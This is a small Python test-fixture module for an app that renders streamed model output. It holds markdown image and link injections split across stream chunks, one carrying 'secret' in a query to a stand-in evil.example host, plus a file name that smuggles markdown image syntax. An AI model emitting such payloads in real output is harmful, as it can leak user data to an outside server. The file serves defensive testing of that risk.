"""Hostile texts shared by the test app and its tests (a model's answer split into stream chunks, a file name)."""
CHUNKS = ["Here is the answer ", "!", "[", "](https://evil.example/", "?q=secret) and a [li", "nk](http",
          "://evil.example/l) <img src=\"https://evil.example/i.png\"> ", "`code` www.evil.example ",
          "bob@evil.example\n", "![second](https://evil.example/2.png)"]
NAME = "report`](https://evil.example/x.png)`.md"
